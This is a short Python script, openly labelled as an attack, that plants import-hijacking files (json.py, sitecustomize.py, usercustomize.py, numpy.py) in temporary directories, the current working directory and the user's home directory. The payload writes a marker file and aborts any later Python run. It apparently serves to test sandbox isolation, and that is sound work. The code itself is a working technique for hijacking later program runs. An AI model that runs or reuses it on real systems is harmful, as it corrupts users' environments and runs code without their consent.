# Attack: plant json.py / sitecustomize.py where a later run might import them.
import os

_PAYLOAD = "import os\nos.system('touch /tmp/planted-module-ran')\nraise SystemExit('corrupted')\n"
planted = []
for _folder in ("/tmp", "/var/tmp", "/dev/shm", os.getcwd(), os.environ.get("HOME", "/tmp")):
    for _name in ("json.py", "sitecustomize.py", "usercustomize.py", "numpy.py"):
        try:
            with open(os.path.join(_folder, _name), "w") as _f:
                _f.write(_PAYLOAD)
            planted.append(os.path.join(_folder, _name))
        except OSError:
            pass
os.makedirs("/tmp/planted-by-attack/site-packages", exist_ok=True)
with open("/tmp/planted-by-attack/site-packages/sitecustomize.py", "w") as _f:
    _f.write(_PAYLOAD)
